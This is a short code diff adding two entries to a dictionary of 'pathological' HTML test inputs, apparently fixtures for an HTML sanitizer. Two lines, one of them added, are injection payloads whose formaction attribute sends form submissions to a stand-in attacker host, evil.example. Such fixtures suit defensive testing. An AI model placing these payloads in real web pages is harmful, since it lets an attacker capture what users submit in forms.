@@ -163,6 +163,8 @@ PATHOLOGICAL = {
     "svg_breakouts": "<svg><path/><p>",
     "framesets": "<frameset><frame src=/x>",
     "controls": "<form><button formaction=//evil.example>",
+    "forms_with_ids": "<form id=f></form>",
+    "named_controls": "<form id=f></form><input form=f formaction=//evil.example>",
 }
 
 
